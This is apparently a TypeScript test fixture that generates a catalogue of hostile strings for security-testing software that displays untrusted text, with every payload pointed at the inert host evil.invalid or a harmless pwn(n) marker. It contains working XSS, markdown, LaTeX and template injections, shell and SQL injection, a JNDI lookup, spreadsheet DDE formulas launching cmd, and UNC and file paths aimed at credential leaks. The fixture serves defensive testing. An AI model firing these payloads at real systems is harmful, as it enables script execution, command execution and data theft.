/**
 * Texts that mean harm to whoever shows them: what has run, loaded, led away or made something in programs that show what strangers
 * write. One list for every test that shows them somewhere.
 *
 * Each, if it came to life, would call `pwn(n)`, ask the host `evil.invalid` for something, or make an element that carries one of
 * the two words; so a watch need not know the list.
 */
export type HostileText = { number: number; category: string; text: string }

export const HOST = 'evil.invalid'

type Base = (n: number) => string
const url = (n: number, scheme = 'http:') => `${scheme}//${HOST}/pwn${n}`

const MARKUP: Base[] = [
  n => `<script>pwn(${n})</script>`,
  n => `<script src="${url(n)}.js"></script>`,
  n => `<script type="module">import "${url(n)}.js"</script>`,
  n => `<script type="speculationrules">{"prefetch":[{"urls":["${url(n)}"]}]}</script>`,
  n => `</title></textarea></style></script><script>pwn(${n})</script>`,
  n => `<img src=x id=pwn${n} onerror=pwn(${n})>`,
  n => `<img src="${url(n)}.png" alt="x">`,
  n => `<img srcset="${url(n)}.png 1x, ${url(n)}b.png 2x">`,
  n => `<img/src=x/onerror=pwn(${n})//`,
  n => `<img src=\`x\` onerror='pwn(${n})'`,
  n => `<picture><source srcset="${url(n)}.webp"><img></picture>`,
  n => `<image xlink:href="${url(n)}" onerror=pwn(${n})>`,
  n => `<iframe src="javascript:parent.pwn(${n})"></iframe>`,
  n => `<iframe srcdoc="<img src=x onerror=parent.pwn(${n})>"></iframe>`,
  n => `<iframe src="${url(n)}" onload=pwn(${n})></iframe>`,
  n => `<frameset onload=pwn(${n})><frame src="${url(n)}"></frameset>`,
  n => `<object data="${url(n)}.swf"></object>`,
  n => `<object type="text/html" data="data:text/html,<script>parent.pwn(${n})</script>"></object>`,
  n => `<embed src="${url(n)}.pdf">`,
  n => `<applet code=pwn${n}.class codebase="${url(n)}"></applet>`,
  n => `<video autoplay src="${url(n)}.mp4" onerror=pwn(${n})></video>`,
  n => `<video poster="${url(n)}.jpg"><track default src="${url(n)}.vtt"></video>`,
  n => `<audio src=x onerror=pwn(${n})>`,
  n => `<video><source onerror="pwn(${n})"></video>`,
  n => `<form action="${url(n)}"><button autofocus onfocus=pwn(${n})>x</button></form>`,
  n => `<form id=pwn${n}></form><button form=pwn${n} formaction="javascript:pwn(${n})">x</button>`,
  n => `<input autofocus onfocus=pwn(${n})>`,
  n => `<input type=image src="${url(n)}.png" formaction="${url(n)}">`,
  n => `<select autofocus onfocus=pwn(${n})></select>`,
  n => `<textarea autofocus onfocus=pwn(${n})></textarea>`,
  n => `<details open ontoggle=pwn(${n})>x</details>`,
  n => `<dialog open onclose=pwn(${n}) id=pwn${n}>x</dialog>`,
  n => `<div popover id=pwn${n} onbeforetoggle=pwn(${n})>x</div>`,
  n => `<marquee onstart=pwn(${n})>x</marquee>`,
  n => `<body onload=pwn(${n}) onpageshow=pwn(${n})>`,
  n => `<p style="animation:x" onanimationstart=pwn(${n})>x</p>`,
  n => `<b id=pwn${n} onmouseover=pwn(${n}) onpointerenter=pwn(${n})>x</b>`,
  n => `<x contenteditable onblur=pwn(${n}) tabindex=1 id=pwn${n}>x`,
  n => `<a href="javascript:pwn(${n})" id=pwn${n}>x</a>`,
  n => `<a href="&#106;avascript&colon;pwn(${n})">x</a>`,
  n => `<a href="data:text/html,<script>pwn(${n})</script>">x</a>`,
  n => `<a href=vbscript:pwn(${n})>x</a>`,
  n => `<a ping="${url(n)}" href=#>x</a>`,
  n => `<a target=_blank href="${url(n)}">x</a>`,
  n => `<map name=pwn${n}><area href="javascript:pwn(${n})"></map>`,
  n => `<link rel=stylesheet href="${url(n)}.css">`,
  n => `<link rel=prefetch href="${url(n)}">`,
  n => `<link rel=dns-prefetch href="//${n}.${HOST}">`,
  n => `<link rel=modulepreload href="${url(n)}.js">`,
  n => `<meta http-equiv=refresh content="0;url=${url(n)}">`,
  n => `<meta http-equiv=refresh content="0;url=data:text/html,<script>pwn(${n})</script>">`,
  n => `<meta http-equiv="Content-Security-Policy" content="script-src ${HOST}/pwn${n}">`,
  n => `<meta http-equiv=set-cookie content="pwn=${n}">`,
  n => `<base href="${url(n)}/">`,
  n => `<base target="pwn${n}">`,
  n => `<pwn-${n} onclick=pwn(${n})>x</pwn-${n}>`,
  n => `<button is=pwn-${n} onclick=pwn(${n})>x</button>`,
]

const NAMESPACES: Base[] = [
  n => `<svg onload=pwn(${n})>`,
  n => `<svg/onload=pwn(${n})//`,
  n => `<svg><script>pwn(${n})</script></svg>`,
  n => `<svg><script href="data:,pwn(${n})" /></svg>`,
  n => `<svg><animate onbegin=pwn(${n}) attributeName=x dur=1s></svg>`,
  n => `<svg><a><set attributeName=href to="javascript:pwn(${n})" /><text y=9>x</text></a></svg>`,
  n => `<svg><use href="data:image/svg+xml,<svg id=x onload=pwn(${n}) />#x"></use></svg>`,
  n => `<svg><image href="${url(n)}.png"></svg>`,
  n => `<svg><feImage xlink:href="${url(n)}.png"></svg>`,
  n => `<svg><foreignObject><iframe srcdoc="<script>parent.pwn(${n})</script>"></iframe></svg>`,
  n => `<svg><desc><![CDATA[</desc><script>pwn(${n})</script>]]></svg>`,
  n => `<svg><style><img src=x onerror=pwn(${n})></style></svg>`,
  n => `<svg><title><style><img title="</style><img src=x onerror=pwn(${n})>"></style></title></svg>`,
  n => `<math><maction actiontype="statusline" xlink:href="javascript:pwn(${n})">x</maction></math>`,
  n => `<math href="javascript:pwn(${n})"><mtext>x</mtext></math>`,
  n => `<math><mtext><table><mglyph><style><img src=x onerror=pwn(${n})></style></mglyph></table></math>`,
  n => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwn(${n})></style></math>`,
  n => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn(${n})>`,
  n => `<noscript><p title="</noscript><img src=x onerror=pwn(${n})>">`,
  n => `<noembed><noframes><xmp></noembed><img src=x onerror=pwn(${n})>`,
  n => `<select><style></select><img src=x onerror=pwn(${n})>`,
  n => `<table><td><svg><style><a title="</style></table><img src=x onerror=pwn(${n})>">`,
  n => `<template id=pwn${n} shadowrootmode=open><script>pwn(${n})</script></template>`,
  n => `<!--><img src=x onerror=pwn(${n})>-->`,
  n => `<!-- --!><img src=x onerror=pwn(${n})>-->`,
  n => `<![CDATA[><script>pwn(${n})</script>]]>`,
  n => `<?xml-stylesheet href="javascript:pwn(${n})"?>`,
  n => `<!DOCTYPE x [<!ENTITY y SYSTEM "${url(n)}">]><x>&y;</x>`,
  n => `<plaintext/onclick=pwn(${n})>`,
  n => `<p title=\`<img src=x onerror=pwn(${n})>\`>`,
]

const STYLES: Base[] = [
  n => `<style>@import "${url(n)}.css";</style>`,
  n => `<style>*{background:url(${url(n)})}</style>`,
  n => `<style>@font-face{font-family:x;src:url(${url(n)}.woff2)}*{font-family:x}</style>`,
  n => `<style>input[value^=a]{background:url(${url(n)}/a)}</style>`,
  n => `<div style="background:url(${url(n)})">x</div>`,
  n => `<div style="position:fixed;inset:0;background:red" id=pwn${n}>x</div>`,
  n => `<p style="width:expression(pwn(${n}))">x</p>`,
  n => `<p style="behavior:url(${url(n)}.htc);-moz-binding:url(${url(n)}.xml)">x</p>`,
  n => `};*{background:url(${url(n)})}`,
  n => `</style><style>*{cursor:url(${url(n)}),auto}</style>`,
]

const QUOTES: Base[] = [
  n => `"><script>pwn(${n})</script>`,
  n => `'><img src=x onerror=pwn(${n})>`,
  n => `" autofocus onfocus=pwn(${n}) x="`,
  n => `' onmouseover='pwn(${n})`,
  n => `' onmouseover=pwn(${n}) style='position:fixed;inset:0`,
  n => `'-pwn(${n})-'`,
  n => `";pwn(${n});//`,
  n => `\\";pwn(${n});//`,
  n => `\`;pwn(${n});\``,
  n => `</script><svg onload=pwn(${n})>`,
  n => `]]>--></textarea><img src=x onerror=pwn(${n})>`,
  n => `javascript:pwn(${n})`,
  n => `jav&Tab;ascript:pwn(${n})`,
  n => `java\nscript:pwn(${n})`,
  n => `\u0001javascript:pwn(${n})`,
  n => `data:text/html;base64,PHNjcmlwdD5wd24o${n}KTwvc2NyaXB0Pg==`,
  n => `vbscript:pwn(${n})`,
  n => `blob:null/pwn${n}`,
  n => `view-source:${url(n)}`,
  n => `%3Cscript%3Epwn(${n})%3C/script%3E`,
  n => `\\u003cscript\\u003epwn(${n})\\u003c/script\\u003e`,
  n => `\\x3cimg src=x onerror=pwn(${n})\\x3e`,
  n => `＜script＞pwn(${n})＜/script＞`,
  n => `‹img src=x onerror=pwn(${n})›`,
  n => `+ADw-script+AD4-pwn(${n})+ADw-/script+AD4-`,
]

const MARKDOWN: Base[] = [
  n => `[x](javascript:pwn(${n}))`,
  n => `[x](  JaVaScRiPt:pwn(${n}))`,
  n => `[x](java&#x0A;script:pwn(${n}))`,
  n => `[x](data:text/html;base64,cHdu${n})`,
  n => `[x](vbscript:pwn(${n}))`,
  n => `[x](${url(n)} "title' onmouseover='pwn(${n})")`,
  n => `[x](<${url(n)}>)`,
  n => `[![x](${url(n)}.png)](${url(n)})`,
  n => `![x](${url(n)}.png)`,
  n => `![x](javascript:pwn(${n}))`,
  n => `![x](data:image/svg+xml,<svg onload=pwn(${n})>)`,
  n => `![x](data:image/png;base64,cHdu${n})`,
  n => `![x](file:///pwn${n}.png)`,
  n => `![x](\\\\${HOST}\\pwn${n}.png)`,
  n => `![x](//${HOST}/pwn${n}.png)`,
  n => `![x](app://weekly-drill/pwn${n}.png)`,
  n => `![x](blob:pwn${n})`,
  n => `![x](picture:pwn${n})`,
  n => `![x](picture:../${HOST}/pwn${n})`,
  n => `![x](PICTURE:${'a'.repeat(64)}${n}pwn)`,
  n => `![x" onerror="pwn(${n})](${url(n, '')}.png)`,
  n => `![x](${url(n, '')}.png "onerror=pwn(${n})")`,
  n => `<${url(n)}>`,
  n => `<javascript:pwn(${n})>`,
  n => `<pwn${n}@${HOST}>`,
  n => url(n),
  n => `www.${HOST}/pwn${n}`,
  n => `[x]: javascript:pwn(${n})\n\n[x]`,
  n => `[x]: ${url(n)} 'y'\n\n![x] [x][] [y][x]`,
  n => `[^1]: <img src=x onerror=pwn(${n})>\n\n[^1]`,
  n => `\`\`\`<img src=x onerror=pwn(${n})>\nx\n\`\`\``,
  n => `\`\`\`html\n<script>pwn(${n})</script>\n\`\`\``,
  n => `~~~" onmouseover=pwn(${n}) x="\nx\n~~~`,
  n => `    <script>pwn(${n})</script>`,
  n => `\`<img src=x onerror=pwn(${n})>\``,
  n => `| a |\n| --- |\n| <img src=x onerror=pwn(${n})> |`,
  n => `| a |\n| :-: style=background:url(${url(n)}) |\n| b |`,
  n => `# <svg onload=pwn(${n})>`,
  n => `> <iframe src="${url(n)}">`,
  n => `- <script>pwn(${n})</script>`,
  n => `1) [x](javascript:pwn(${n}))`,
  n => `**<img src=x onerror=pwn(${n})>**`,
  n => `x\\<img src=x onerror=pwn(${n})\\>`,
  n => `<div>\n\n**x**\n\n<script>pwn(${n})</script></div>`,
  n => `:::pwn${n}\n<script>\n:::`,
  n => `[[javascript:pwn(${n})]]`,
  n => `{#pwn${n} onclick="pwn(${n})"}`,
]

const MATHEMATICS: Base[] = [
  n => `$\\href{javascript:pwn(${n})}{x}$`,
  n => `$\\href{${url(n)}}{x}$`,
  n => `$\\url{${url(n)}}$`,
  n => `$\\includegraphics[height=1em]{${url(n)}.png}$`,
  n => `$\\htmlId{pwn${n}}{x}$`,
  n => `$\\htmlClass{pwn${n}}{x}$`,
  n => `$\\htmlData{pwn=${n}}{y}$`,
  n => `$\\htmlStyle{background:url(${url(n)})}{x}$`,
  n => `$\\text{<img src=x onerror=pwn(${n})>}$`,
  n => `$\\mathrm{</math><script>pwn(${n})</script>}$`,
  n => `$\\textcolor{red;background:url(${url(n)})}{x}$`,
  n => `$\\color{#f00}\\fcolorbox{red}{blue}{pwn${n}}$`,
  n => `$\\pmb{x}_{pwn${n}}$`,
  n => `$\\colorbox{aqua}{$\\fcolorbox{black}{#fff}{x}$} % pwn${n}$`,
  n => `$\\let\\b\\pmb \\b{x} \\let\\f\\fcolorbox \\f{red}{blue}{x}$ pwn${n}`,
  n => `$$\n\\unicode{<script>pwn(${n})</script>}\n$$`,
  n => `$$\n\\begin{array}{c}\\href{javascript:pwn(${n})}{x}\\end{array}\n$$`,
  n => `$\\def\\a{\\a\\a}\\a % pwn${n}$`,
  n => `$\\rule{9999em}{9999em}$ pwn${n}`,
  n => `$\\input{/etc/passwd}\\write18{pwn${n}}$`,
  n => `$\\char"3C script \\char"3E pwn(${n})$`,
  n => `$\\tag{<b onclick=pwn(${n})>}x$`,
  n => `$\\newcommand{\\x}{\\href{javascript:pwn(${n})}{y}}\\x$`,
  n => `$\\csname href\\endcsname{javascript:pwn(${n})}{x}$`,
]

const TEMPLATES: Base[] = [
  n => `{{constructor.constructor("pwn(${n})")()}}`,
  n => `{{pwn${n}}}`,
  n => `{{name}} {{count}} {{title}} {{- name}} pwn${n}`,
  n => `{{{pwn${n}}}}`,
  n => `{% raw %}{{pwn(${n})}}{% endraw %}`,
  n => `\${pwn(${n})}`,
  n => `#{pwn(${n})}`,
  n => `<%= pwn(${n}) %>`,
  n => `[[\${pwn(${n})}]]`,
  n => `$t(common:cancel) pwn${n}`,
  n => `$t(bank:notFound.text, {"id":"<img src=x onerror=pwn(${n})>"})`,
  n => `$t(common:app.name, { "count": 1, "context": "pwn${n}" })`,
  n => `$t($t(common:cancel)) {{name, uppercase}} pwn${n}`,
  n => `$& $1 $\` $' $$ pwn${n}`,
  n => `<0>pwn${n}</0><1><script></1>`,
  n => `%s %d %c %o pwn${n}`,
  n => `:) bank:notFound.text refusal:app.internal pwn${n}`,
  n => `\${jndi:ldap://${HOST}/pwn${n}}`,
  n => `$(touch pwn${n})`,
  n => `\`touch pwn${n}\``,
  n => `;touch pwn${n}|x&&y`,
  n => `'; DROP TABLE questions; -- pwn${n}`,
  n => `" OR ""="" UNION SELECT ${n} AS pwn`,
  n => `* NEAR/2 (stem: OR pwn${n}*`,
  n => `status:inUse -tag:"pwn${n}`,
  n => `__proto__[pwn${n}]=1`,
  () => '__proto__',
  () => 'constructor',
  n => `{"__proto__":{"pwn":${n}}}`,
  n => `toString pwn${n} hasOwnProperty`,
  n => `../../../../pwn${n}`,
]

const SIGNS: Base[] = [
  n => `a\u0000<script>pwn(${n})</script>`,
  n => `pwn${n}\u0000.png`,
  n => `\uD83D pwn${n}`,
  n => `\uDE00<img src=x onerror=pwn(${n})>`,
  n => `\uFFFE\uFFFF pwn${n}`,
  n => `\uFEFF<script>pwn(${n})</script>`,
  n => `\u202Etpircs<pwn(${n})>gpj.exe`,
  n => `\u2066\u2067\u2068pwn${n}`,
  n => `\u061C\u200E\u200Fpwn${n}\u2069`,
  n => `<scr\u200Bipt>pwn(${n})</scr\u200Dipt>`,
  n => `java\u00ADscript:pwn(${n})`,
  n => `\u2028pwn(${n})\u2029`,
  n => `\u0008\u0007\u001B[31mpwn${n}\u001B[0m`,
  n => `\u001B]8;;${url(n)}\u0007x\u001B]8;;\u0007`,
  n => `\u000B\u000C\u0085pwn${n}`,
  n => `x\r\nSet-Cookie: pwn=${n}`,
  n => `\u{E05F}pwn${n}\u{E05F}<img onerror=pwn(${n})>`,
  n => `\u{E0001}\u{E0061}pwn${n}\u{E007F}`,
  n => `\u{1F3F4}\u{E0067}\u{E007F}pwn${n}`,
  n => `pwn${n}${'\u0301\u0489'.repeat(60)}`,
  n => `ﷺ﷽𒐫${'\u0E47'.repeat(40)}pwn${n}`,
  n => `<ſcript>pwn(${n})</ſcript>`,
  n => `ＪＡＶＡＳＣＲＩＰＴ：pwn(${n})`,
  n => `\uDBFF\uDFFFpwn${n}`,
]

const PLACES: Base[] = [
  n => `\\\\${HOST}\\share\\pwn${n}`,
  n => `\\\\${HOST}@SSL@443\\share\\pwn${n}.png`,
  n => `//${HOST}/share/pwn${n}`,
  n => `\\\\?\\UNC\\${HOST}\\pwn${n}`,
  n => `\\\\.\\PhysicalDrive0\\pwn${n}`,
  n => `C:\\Windows\\System32\\pwn${n}.exe`,
  n => `CON AUX NUL pwn${n}:stream`,
  n => `file:///C:/pwn${n}.lnk`,
  n => `file://${HOST}/share/pwn${n}`,
  n => `smb://${HOST}/pwn${n}`,
  n => `ldap://${HOST}/pwn${n}`,
  n => `ws://${HOST}/pwn${n}`,
  n => `app://weekly-drill/../pwn${n}`,
  n => `chrome://settings/pwn${n}`,
  n => `devtools://devtools/pwn${n}`,
  n => `ms-msdt:/id PCWDiagnostic /param pwn${n}`,
  n => `search-ms:query=pwn${n}&crumb=location:\\\\${HOST}`,
  n => `mailto:pwn${n}@${HOST}?attach=/etc/passwd`,
  n => `tel:pwn${n}`,
  n => `ms-word:ofe|u|${url(n)}.docx`,
  n => `/proc/self/environ?pwn${n}`,
  n => `#/settings?pwn${n}`,
  n => `/bank/../../pwn${n}`,
]

const SHEETS: Base[] = [
  n => `=HYPERLINK("${url(n)}","x")`,
  n => `=WEBSERVICE("${url(n)}")`,
  n => `=IMPORTXML("${url(n)}","//a")`,
  n => `=cmd|'/C calc'!pwn${n}`,
  n => `+cmd|'/C calc'!pwn${n}`,
  n => `-2+3+cmd|'/C calc'!pwn${n}`,
  n => `@SUM(1+1)*cmd|'/C calc'!pwn${n}`,
  n => `\t=1+pwn${n}`,
  n => `\r=1+pwn${n}`,
  n => `'=1+pwn${n}`,
  n => `"=1+pwn${n}"`,
  n => `＝1+pwn${n}`,
  n => `=DDE("cmd";"/C calc";"pwn${n}")`,
  n => `{ HYPERLINK "${url(n)}" }`,
  n => `{ INCLUDEPICTURE "${url(n)}.png" \\d }`,
  n => `{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k pwn${n}" }`,
  n => `</w:t></w:r><w:r><w:instrText>HYPERLINK "${url(n)}"</w:instrText></w:r><w:r><w:t>`,
  n => `]]></t><f>WEBSERVICE("${url(n)}")</f><t>`,
  n => `_x003C_script_x003E_pwn(${n})`,
  n => `\\{\\field\\fldinst HYPERLINK "${url(n)}"\\}`,
  n => `,;\t"\n=1+pwn${n}`,
]

const LONG: Base[] = [
  n => `pwn${n}${'A'.repeat(440)}`,
  n => `pwn${n}${'<b>'.repeat(140)}`,
  n => `pwn${n} ${'> '.repeat(200)}x`,
  n => `pwn${n} ${'**'.repeat(200)}`,
  n => `pwn${n} ${'['.repeat(400)}`,
  n => `pwn${n} ${'![x]('.repeat(80)}`,
  n => `$${'{'.repeat(200)}pwn${n}${'}'.repeat(200)}$`,
  n => `$${'\\frac{1}{'.repeat(40)}pwn${n}${'}'.repeat(40)}$`,
  n => `pwn${n}${'\u200B'.repeat(400)}`,
  n => `| a |\n|-|\n${'| b '.repeat(100)}pwn${n}`,
  n => `pwn${n}${'漢'.repeat(1_800)}`,
]

/** The same in another coat. */
const COATS: ((text: string) => string)[] = [
  text => text.replaceAll(/<(\/?)([a-z]+)/giu, (_, end: string, name: string) => `<${end}${mixed(name)}`),
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  text => text.replaceAll(/<([a-z])/giu, '<\t$1').replaceAll(' on', '\non'),
  text => `[${text}](javascript:0)`,
]
const COATED = [...MARKUP.slice(0, 44), ...NAMESPACES.slice(0, 18)]

function mixed(name: string): string {
  return Array.from(name, (letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join('')
}

function made(): HostileText[] {
  const kinds = new Set<string>()
  const texts: HostileText[] = []
  const add = (category: string, bases: readonly Base[], coat = (text: string) => text) => {
    for (const base of bases) {
      const number = texts.length + 1
      // What distinguishes two of them is what they try, not their number.
      const kind = coat(base(0))
      if (kinds.has(kind)) continue
      kinds.add(kind)
      texts.push({ number, category, text: coat(base(number)) })
    }
  }
  add('markup', MARKUP)
  add('namespaces', NAMESPACES)
  add('styles', STYLES)
  add('quotes', QUOTES)
  add('markdown', MARKDOWN)
  add('mathematics', MATHEMATICS)
  add('templates', TEMPLATES)
  add('signs', SIGNS)
  add('places', PLACES)
  add('sheets', SHEETS)
  add('long', LONG)
  for (const coat of COATS) add('coated', COATED, coat)
  return texts
}

export const HOSTILE_TEXTS: readonly HostileText[] = made()
